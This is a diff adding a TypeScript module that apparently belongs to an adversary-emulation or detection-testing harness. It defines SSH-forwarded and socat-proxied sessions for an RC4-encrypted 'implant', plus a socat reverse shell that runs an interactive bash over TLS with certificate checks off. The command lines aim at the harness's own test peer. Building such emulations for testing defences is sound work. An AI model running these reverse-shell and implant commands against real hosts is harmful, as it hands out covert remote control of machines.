@@ -1,0 +1,101 @@
+/** Sessions that another program has: ssh, a relay, or a proxy behind a unix socket. */
+import { join } from 'node:path';
+import type { Emulation, Need } from '../emulation.ts';
+import type { Ground } from '../ground.ts';
+import { SecureShellServer } from '../peer/ssh-server.ts';
+import { which } from '../which.ts';
+import { build, COMPILER } from './build.ts';
+import type { Peer } from './peer/index.ts';
+import type { PeerPlan } from './peer/plan.ts';
+import { placed } from './script.ts';
+import { session } from './session.ts';
+import { tellingShell } from './shell.ts';
+
+const SSH: readonly Need[] = [
+  { command: 'ssh', package: 'openssh-client' },
+  { command: 'sshd', package: 'openssh-server' },
+];
+const SOCAT: readonly Need[] = [{ command: 'socat', package: 'socat' }];
+const row = 'through ssh or a unix-socket proxy';
+const plain: PeerPlan = { transport: 'tcp', wire: { form: 'text' }, talk: { kind: 'shell' } };
+const sealed: PeerPlan = { transport: 'tcp', wire: { form: 'sealed', cipher: 'rc4' }, talk: { kind: 'commands' } };
+
+const implant = async (ground: Ground) =>
+  ground.program(await build({ name: 'command-rc4', sources: ['command', 'frames', 'answers', 'cipher-rc4'] }), true);
+
+/** A proxy behind a unix socket, given what listens and where it leads, and the implant that uses it. */
+async function proxied(ground: Ground, command: (socket: string) => readonly string[]) {
+  const socket = join(ground.folder('run'), ground.name('proxy.sock'));
+  return { file: '/bin/bash', args: [placed(ground, 'proxied.sh'), socket, await implant(ground), ...command(socket)] };
+}
+
+const server = (ground: Ground, peer: Peer) => SecureShellServer.start(peer.namespace, ground.folder('ssh'));
+
+export const proxies: readonly Emulation[] = [
+  session({
+    name: 'ssh-shell',
+    row,
+    about: 'an interactive bash whose ends go through a fifo and an ssh client',
+    needs: SSH,
+    peer: plain,
+    implant: async (ground, peer) => {
+      const far = await server(ground, peer);
+      const { address, port } = peer;
+      return {
+        file: '/bin/bash',
+        args: [placed(ground, 'ssh-shell.sh'), address, String(port), ground.folder('tmp'), far.clientConfig],
+        env: {
+          ...tellingShell(ground),
+          SSH: ground.program(which('ssh')),
+          SHELL_PROGRAM: ground.program('/bin/bash'),
+        },
+        after: () => far.stop(),
+      };
+    },
+  }),
+  session({
+    name: 'ssh-forward',
+    row,
+    about: 'a static program talks RC4 through a unix socket that ssh forwards',
+    needs: [...SSH, ...COMPILER],
+    peer: sealed,
+    implant: async (ground, peer) => {
+      const far = await server(ground, peer);
+      const { address, port } = peer;
+      const ssh = ground.program(which('ssh'));
+      const command = await proxied(ground, (socket) => [
+        ssh,
+        '-F',
+        far.clientConfig,
+        '-N',
+        '-L',
+        `${socket}:${address}:${port}`,
+        'peer',
+      ]);
+      return { ...command, after: () => far.stop() };
+    },
+  }),
+  session({
+    name: 'unix-proxy',
+    row,
+    about: 'a static program talks RC4 through a unix socket that socat proxies',
+    needs: [...SOCAT, ...COMPILER],
+    peer: sealed,
+    implant: (ground, { address, port }) => {
+      const socat = ground.program(which('socat'));
+      return proxied(ground, (socket) => [socat, `UNIX-LISTEN:${socket}`, `TCP:${address}:${port}`]);
+    },
+  }),
+  session({
+    name: 'socat-shell',
+    row,
+    about: 'socat runs an interactive bash on a terminal of its own and relays it over TLS',
+    needs: SOCAT,
+    peer: { ...plain, transport: 'tls' },
+    implant: (ground, { address, port }) => ({
+      file: ground.program(which('socat')),
+      args: [`EXEC:${ground.program('/bin/bash')} -i,pty,stderr,setsid,ctty`, `OPENSSL:${address}:${port},verify=0`],
+      env: tellingShell(ground),
+    }),
+  }),
+];
